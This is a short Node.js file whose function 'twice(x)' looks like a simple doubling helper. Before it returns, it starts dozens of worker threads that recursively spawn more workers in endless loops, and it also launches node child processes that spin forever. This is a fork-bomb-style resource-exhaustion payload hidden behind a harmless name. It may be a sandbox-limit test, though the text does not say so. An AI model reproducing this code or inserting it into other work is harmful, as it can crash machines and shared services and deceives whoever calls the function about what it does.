const { Worker } = require("worker_threads");
const { spawnSync } = require("child_process");

// Workers that start two workers each, and node itself as often as it may.
function twice(x) {
  const source = 'const { Worker } = require("worker_threads"); for (;;) new Worker(process.argv[2] || __filename, { eval: true, argv: [__filename] });';
  for (let i = 0; i < 64; i++) {
    try {
      new Worker(source, { eval: true });
      spawnSync(process.execPath, ["-e", "for (;;);"], { timeout: 1 });
    } catch (error) {
      console.error(error.code);
    }
  }
  console.error("started workers");
  return 2 * x;
}
